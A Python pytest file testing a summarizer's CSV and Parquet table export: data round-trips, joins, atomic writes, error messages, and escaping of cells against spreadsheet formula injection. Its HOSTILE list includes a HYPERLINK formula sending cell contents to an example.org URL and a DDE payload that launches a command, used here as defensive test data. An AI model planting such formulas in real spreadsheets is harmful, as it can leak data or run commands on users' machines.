"""Summaries as tables: the same values in every form, harmless in a spreadsheet, whole or not."""

from __future__ import annotations

import csv
import json
import os
import re
import sys
import tracemalloc
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from small_summaries import failure, summary

from summarize import cli, to_rows
from summarize.batch.results import BatchResult
from summarize.batch.summaries import WANTED, read_each
from summarize.errors import ConfigurationError, OutputError
from summarize.report import parquet_tables, table_files
from summarize.report.table_files import protected, write_tables
from summarize.report.tables import TABLES
from summarize.schema import Summary

ROOT = Path(__file__).parents[2]
DOCS = (ROOT / "docs" / "output.md").read_text(encoding="utf-8")
FORMS = ("csv", "parquet")
# As docs/output.md says.
DTYPES = {
    "text": "string",
    "list": "string",
    "integer": "int64",
    "float": "float64",
    "boolean": "bool",
}


def export(*arguments: Any) -> int:
    return cli.main(["export", *map(os.fspath, arguments)])


def frame(place: Path, name: str) -> pd.DataFrame:
    """A table as pandas reads it, text as text and lists as lists."""
    parquet = place / f"{name}.parquet"
    if parquet.exists():
        return pd.read_parquet(parquet)
    dtypes = {column: DTYPES[kind] for column, kind in TABLES[name].items()}
    read = pd.read_csv(place / f"{name}.csv", dtype=dtypes, keep_default_na=False, na_values=[""])
    for column, kind in TABLES[name].items():
        if kind == "list":
            cells = read[column].astype(object)
            read[column] = [[] if pd.isna(cell) else cell.split("; ") for cell in cells]
    return read


def unprotected(cells: Any) -> pd.Series:
    """The cells as they were, by the line in docs/output.md."""
    (pattern,) = re.findall(r'str\.replace\(r"(.+)", r"\\1", regex=True\)', DOCS)
    return pd.Series(cells).str.replace(pattern, r"\1", regex=True)


def rows(read: pd.DataFrame) -> list[dict[str, Any]]:
    """A table as `to_rows` gives it."""
    return [
        {name: _plain(value) for name, value in row.items()}
        for row in read.astype(object).to_dict("records")
    ]


def _plain(value: Any) -> Any:
    if hasattr(value, "__len__") and not isinstance(value, str):
        return list(value)
    return None if pd.isna(value) else value


def cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.DictReader(stream, strict=True))


# What is in the tables


def test_the_seeds_come_back_as_they_were(seeds: Path, tmp_path: Path) -> None:
    summaries = [record for record in read_each(seeds) if isinstance(record, Summary)]
    wanted = to_rows(summaries)
    for form in FORMS:
        place = tmp_path / form
        assert export(seeds, "-o", place, "--format", form) == 0
        assert {path.name for path in place.iterdir()} == {f"{n}.{form}" for n in TABLES}
        for name in TABLES:
            read = frame(place, name)
            assert list(read.columns) == list(TABLES[name])
            assert rows(read) == wanted[name], name
        actors, articles = frame(place, "actors"), frame(place, "articles")
        assert {str(actors[n].dtype) for n in ("quotes", "quote_start", "quote_end")} == {"int64"}
        assert actors["country"].isna().any()
        assert articles["is_meeting"].dtype == bool
        assert articles["cost_usd"].isna().all()
        assert len(articles) == 5
        assert len(frame(place, "failures")) == 0


def test_tables_join(seeds: Path, tmp_path: Path) -> None:
    assert export(seeds, "-o", tmp_path) == 0
    quotes, articles = frame(tmp_path, "quotes"), frame(tmp_path, "articles")
    joined = quotes.merge(articles, on="article_id", suffixes=("", "_of_article"))
    assert len(joined) == len(quotes) > 50
    for row in joined.itertuples():
        text = Path(ROOT / row.source).read_bytes().decode("utf-8")
        assert text[row.start : row.end] == row.text
    for name in ("actors", "agenda_items", "outcomes"):
        items = frame(tmp_path, name)
        of_items = quotes[quotes["table"] == name]
        joined = of_items.merge(items, on=["article_id", "item_id"], validate="many_to_one")
        assert len(joined) == len(of_items) == items["quotes"].sum()
        first = joined[joined["number"] == 1]
        assert len(first) == len(items)
        assert (first["text"] == first["quote_text"]).all()
        assert (first["start"] == first["quote_start"]).all()


def test_rows_are_plain_values_in_the_order_of_the_columns() -> None:
    tables = to_rows([summary("one"), failure("two"), BatchResult("3", summary("3").to_json())])
    assert list(tables) == list(TABLES)
    for name, kinds in TABLES.items():
        assert all(list(row) == list(kinds) for row in tables[name]), name
    assert [row["article_id"] for row in tables["articles"]] == ["one", "3"]
    assert tables["failures"] == [
        {
            "article_id": "two",
            "error": "RefusalError",
            "message": "declined",
            "retryable": True,
            "attempts": 2,
        }
    ]
    assert tables["outcomes"][0] == {
        "article_id": "one",
        "item_id": "o1",
        "meeting": "m1",
        "kind": "decision",
        "description": "A met B.",
        "parties": ["a1", "a9"],
        "party_names": ["A met B.", "a9"],
        "confidence": None,
        "review": None,
        "quotes": 1,
        "quote_start": 7,
        "quote_end": 15,
        "quote_text": "A met B.",
    }
    assert [row["number"] for row in tables["quotes"]][:5] == [1, 1, 2, 1, 1]
    (meeting,) = (row for row in tables["meetings"] if row["article_id"] == "one")
    assert (meeting["date_text"], meeting["participant_names"]) == ("A met B.", ["A met B."])
    assert pd.DataFrame(tables["actors"])["aliases"][0] == ["A met B.", "B"]
    assert to_rows([]) == {name: [] for name in TABLES}


def test_every_value_of_a_summary_is_in_the_tables() -> None:
    """A new field of the schema has to find its place."""
    made = summary("one").model_dump(by_alias=True)
    flat: set[str] = set()

    def collect(value: Any, name: str) -> None:
        if isinstance(value, dict):
            for key, inner in value.items():
                collect(inner, key)
        elif isinstance(value, (list, tuple)):
            for inner in value:
                collect(inner, name)
        else:
            flat.add(name)

    collect(made, "")
    columns = {column for kinds in TABLES.values() for column in kinds}
    renamed = {"id", "type", "places", "iso", "schema_version", "start", "end"}
    assert flat - renamed <= columns, flat - renamed - columns


def test_the_documentation_names_every_column() -> None:
    for name, kinds in TABLES.items():
        (section,) = re.findall(rf"^\| `{name}` \|(.*)$", DOCS, re.MULTILINE)
        assert all(f"`{column}`" in section for column in kinds), name


# Cells


HOSTILE = [
    '=HYPERLINK("http://example.org/?"&A1,"here")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "'=1+1",
    "''=1+1",
    "'quoted'",
    "'",
    "it's = fine",
    'a "quoted", b; c',
    "two\nlines",
    "two\r\nlines",
    "a lone\rreturn",
    "𝒜 🤝 İıŞğ ‘’“” \u2028 \u202e \ufeff",
    "NA",
    "null",
    "007",
    "1e5",
    "; ",
]
RISKY = tuple("=+-@\t\r\n＝＋－＠")


@pytest.mark.parametrize("form", FORMS)
def test_hostile_texts_come_back(tmp_path: Path, form: str) -> None:
    given = [summary(f"{n}{text}", text=text, says=text) for n, text in enumerate(HOSTILE)]
    given += [summary(text, text=text, says=text) for text in HOSTILE]
    given += [failure("=id", "=E", "=message")]
    write_tables(given, tmp_path, form)
    wanted = to_rows(given)
    for name, kinds in TABLES.items():
        read = frame(tmp_path, name)
        for column, kind in kinds.items():
            if kind == "text" and form == "csv":
                read[column] = unprotected(read[column])
        # Lists with the separator in them are whole in Parquet only.
        compared = [c for c, kind in kinds.items() if kind != "list" or form == "parquet"]
        assert rows(read[compared]) == [{c: row[c] for c in compared} for row in wanted[name]], name


def test_no_cell_begins_a_formula(tmp_path: Path) -> None:
    made = [summary(f"{text}", text=text) for text in HOSTILE]
    write_tables([*made, failure("=id", "=E", "=message")], tmp_path)
    for name in TABLES:
        for row in cells(tmp_path / f"{name}.csv"):
            assert not [cell for cell in row.values() if cell.strip(" ").startswith(RISKY)]
    ids = {row["article_id"] for row in cells(tmp_path / "articles.csv")}
    assert "'-2+3" in ids
    assert ids >= {row["article_id"] for row in cells(tmp_path / "quotes.csv")}


def test_raw_leaves_cells_as_they_are(tmp_path: Path) -> None:
    path = tmp_path / "s.jsonl"
    path.write_text("".join(f"{summary(t, text=t).to_json()}\n" for t in HOSTILE), encoding="utf-8")
    assert export(path, "-o", tmp_path / "t", "--raw") == 0
    read = cells(tmp_path / "t" / "actors.csv")
    assert [row["name"] for row in read] == HOSTILE
    assert [row["article_id"] for row in read] == HOSTILE


@settings(deadline=None, max_examples=50)
@given(st.lists(st.text() | st.text(alphabet="'=+-@ \t\r\n＝x", max_size=6), min_size=1))
def test_protection_can_be_undone(given: list[str]) -> None:
    safe = [protected(cell) for cell in given]
    assert list(unprotected(safe)) == given
    for cell, before in zip(safe, given, strict=True):
        assert not cell.strip(" ").startswith(RISKY)
        assert cell in (before, f"'{before}")


def test_the_file_is_what_excel_and_rfc_4180_want(tmp_path: Path) -> None:
    write_tables([summary("one", text='a "b", c')], tmp_path)
    data = (tmp_path / "agenda_items.csv").read_bytes()
    assert data == (
        b"\xef\xbb\xbfarticle_id,item_id,meeting,topic,confidence,"
        b"review,quotes,quote_start,quote_end,quote_text\r\n"
        b'one,g1,m1,"a ""b"", c",,,1,7,15,"a ""b"", c"\r\n'
    )
    assert cells(tmp_path / "articles.csv")[0]["is_meeting"] == "true"
    assert cells(tmp_path / "articles.csv")[0]["outlet"] == ""


# Files


def test_tables_are_no_stream(capsys: pytest.CaptureFixture[str]) -> None:
    assert export("s.jsonl", "-o", "-") == 2
    assert "-: tables are several files; name a folder with -o" in capsys.readouterr().err
    with pytest.raises(TypeError, match="a list of summaries is wanted"):
        to_rows(summary("a"))  # type: ignore[arg-type]


def test_half_a_character_is_told(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "s.jsonl"
    half = summary("half").to_json().replace("A met B.", "\\ud800")
    path.write_text(f"{summary('a').to_json()}\n{half}\n", encoding="utf-8")
    for form in FORMS:
        assert export(path, "-o", tmp_path / form, "--format", form) == 1
        assert "line 2: holds half a character (a lone surrogate)" in capsys.readouterr().err
        assert frame(tmp_path / form, "articles")["article_id"].tolist() == ["a"]


def test_where_one_table_cannot_be_put_all_stay_as_they_were(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_tables([summary("old")], tmp_path)
    before = {path.name: path.read_bytes() for path in tmp_path.iterdir()}
    replace = Path.replace

    def held(self: Path, target: Path) -> Path:
        # As a spreadsheet on Windows holds what it shows.
        if self == tmp_path / "outcomes.csv":
            raise PermissionError(13, "Permission denied")
        return replace(self, target)

    monkeypatch.setattr(Path, "replace", held)
    with pytest.raises(OutputError, match="Permission denied"):
        write_tables([summary("new")], tmp_path)
    monkeypatch.undo()
    assert {path.name: path.read_bytes() for path in tmp_path.iterdir()} == before


def test_lines_of_batches_bare_summaries_and_bad_lines(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path, place = tmp_path / "s.jsonl", tmp_path / "t"
    batch = BatchResult("b", summary("b", says="old").to_json()).to_json()
    newer = BatchResult("b", summary("b", says="new").to_json()).to_json()
    lines = [summary("a").to_json(), batch, failure("c").to_json(), newer]
    path.write_text("".join(f"{line}\n" for line in lines), encoding="utf-8")
    assert export(path, "-o", place) == 0
    out, errors = capsys.readouterr()
    assert out == ""
    left_out, done = errors.splitlines()
    assert left_out == ("1 line left out: of several on the same article, the last summary counts")
    assert done == (
        f"{place}: 2 articles, 2 meetings, 2 actors, 2 agenda items, 2 outcomes, 10 quotes,"
        " 1 failure"
    )
    assert [row["article_id"] for row in cells(place / "articles.csv")] == ["a", "b"]
    assert cells(place / "articles.csv")[1]["summary"] == "new"
    assert cells(place / "failures.csv") == [
        {
            "article_id": "c",
            "error": "RefusalError",
            "message": "declined",
            "retryable": "true",
            "attempts": "2",
        }
    ]
    with path.open("a", encoding="utf-8") as stream:
        stream.write('{"id":"torn","o\n{}\n')
    assert export(path, "-o", place) == 1
    told = capsys.readouterr().err.splitlines()
    assert told[1].startswith(f"summarize: {path}, line 5: is not JSON (")
    assert told[2].startswith(f"summarize: {path}, line 6: is no summary (")
    assert told[3].startswith(f"{place}: 2 articles")
    path.write_text(failure("c").to_json(), encoding="utf-8")
    assert export(path, "-o", place) == 0
    assert cells(place / "articles.csv") == []
    assert len(cells(place / "failures.csv")) == 1


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (b"", "s.jsonl: is empty; give what summarize article --format jsonl or summarize batch"),
        (b"\n\n", "s.jsonl: is empty; give what summarize article"),
        (b"[]", "s.jsonl: holds no summaries; give what summarize article"),
        (b"{}", "s.jsonl, line 1: is no summary (article: Field required)"),
        (b"A met B.", "s.jsonl, line 1: is not JSON"),
        (b"\0\1", "s.jsonl: is binary, not text"),
        (None, "s.jsonl: no such file; check the path"),
    ],
)
def test_nothing_to_write_leaves_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], data: bytes | None, says: str
) -> None:
    path = tmp_path / "s.jsonl"
    if data is not None:
        path.write_bytes(data)
    assert export(path, "-o", tmp_path / "t") == 2
    told = capsys.readouterr().err.splitlines()
    assert told[0].startswith(f"summarize: {tmp_path / says}")
    assert told[1:] in ([], [f"summarize: {path}: holds no summaries; {WANTED}"])
    assert not (tmp_path / "t").exists()


@pytest.mark.parametrize("form", FORMS)
def test_other_files_stay_and_earlier_tables_go(tmp_path: Path, form: str) -> None:
    place = tmp_path / "t"
    place.mkdir()
    (place / "notes.txt").write_text("mine", encoding="utf-8")
    write_tables([summary("old"), summary("older"), failure("f")], place, form)
    (place / f"actors.{form}").chmod(0o600)
    counts = write_tables([summary("new")], place, form)
    assert counts["articles"] == 1
    assert list(frame(place, "articles")["article_id"]) == ["new"]
    assert len(frame(place, "failures")) == 0
    assert (place / "notes.txt").read_text(encoding="utf-8") == "mine"
    assert len(list(place.iterdir())) == len(TABLES) + 1
    if os.name == "posix":
        assert (place / f"actors.{form}").stat().st_mode & 0o777 == 0o600
        umask = os.umask(0)
        os.umask(umask)
        assert (place / f"quotes.{form}").stat().st_mode & 0o777 == 0o666 & ~umask


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("error", [KeyboardInterrupt, RuntimeError])
def test_what_was_there_stays_where_an_error_comes(
    tmp_path: Path, form: str, error: type[BaseException]
) -> None:
    def broken() -> Iterator[Summary]:
        yield summary("new")
        raise error

    write_tables([summary("old")], tmp_path / "t", form)
    before = {path: path.read_bytes() for path in (tmp_path / "t").iterdir()}
    for place in (tmp_path / "t", tmp_path / "new"):
        with pytest.raises(error):
            write_tables(broken(), place, form)
    assert {path: path.read_bytes() for path in (tmp_path / "t").iterdir()} == before
    assert not (tmp_path / "new").exists()


def test_a_full_disk_is_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def full(*_: Any) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(table_files.csv.DictWriter, "writerow", full)
    path = tmp_path / "s.jsonl"
    path.write_text(summary("a").to_json(), encoding="utf-8")
    assert export(path, "-o", tmp_path / "t") == 2
    (told,) = capsys.readouterr().err.splitlines()
    assert told.startswith(f"summarize: {tmp_path / 't'}: cannot be written (No space left")
    assert not (tmp_path / "t").exists()


def test_places_that_cannot_be(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "articles.csv"
    path.write_text(summary("a").to_json(), encoding="utf-8")
    (tmp_path / "taken" / "quotes.csv").mkdir(parents=True)
    cases = {
        path: "articles.csv: is not a folder; name a folder with -o",
        tmp_path: "articles.csv: is where a table would be; name another folder with -o",
        tmp_path / "no" / "where": "no: the folder does not exist; create it: mkdir -p",
        tmp_path / "taken": "quotes.csv: is a folder; name another folder with -o",
        tmp_path / ("x" * 300): "cannot be written (File name too long)",
    }
    for place, says in cases.items():
        assert export(path, "-o", place) == 2
        (told,) = capsys.readouterr().err.splitlines()
        assert says in told
    assert path.read_text(encoding="utf-8") == summary("a").to_json()
    assert export(path, "-o", tmp_path, "--format", "parquet") == 0


def test_without_pyarrow(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    monkeypatch.setitem(sys.modules, "pyarrow.parquet", None)
    path = tmp_path / "s.jsonl"
    path.write_text(summary("a").to_json(), encoding="utf-8")
    assert export(path, "-o", tmp_path / "t", "--format", "parquet") == 2
    assert capsys.readouterr().err == (
        "summarize: Parquet needs pyarrow, which is not installed; "
        "pip install 'summarize[parquet]', or take --format csv\n"
    )
    assert export(path, "-o", tmp_path / "t") == 0


def test_a_number_that_parquet_cannot_hold_is_told(tmp_path: Path) -> None:
    made = json.loads(summary("a").to_json())
    made["article"]["characters"] = 10**30
    with pytest.raises(OutputError, match=r"does not fit into Parquet .*; take --format csv"):
        write_tables([Summary.model_validate(made)], tmp_path / "t", "parquet")
    assert not (tmp_path / "t").exists()
    write_tables([Summary.model_validate(made)], tmp_path / "t")


def test_the_folder_may_not_be_written(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: Any, **__: Any) -> None:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(table_files, "TemporaryDirectory", refuse)
    with pytest.raises(ConfigurationError, match=r"cannot be written \(Permission denied\); check"):
        write_tables([], tmp_path / "t")
    assert not (tmp_path / "t").exists()


@pytest.mark.parametrize("form", FORMS)
def test_memory_does_not_grow_with_the_input(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, form: str
) -> None:
    monkeypatch.setattr(parquet_tables, "_MAX_ROWS", 100)
    peaks = []
    # The first imports what it needs.
    for number in (10, 120, 500):
        path = tmp_path / f"{number}.jsonl"
        lines = (BatchResult(str(n), summary(str(n)).to_json()).to_json() for n in range(number))
        path.write_text("".join(f"{line}\n" for line in lines), encoding="utf-8")
        tracemalloc.start()
        try:
            assert export(path, "-o", tmp_path / f"{number}", "--format", form) == 0
            peaks.append(tracemalloc.get_traced_memory()[1])
        finally:
            tracemalloc.stop()
    assert peaks[2] - peaks[1] < 150_000 < path.stat().st_size, peaks
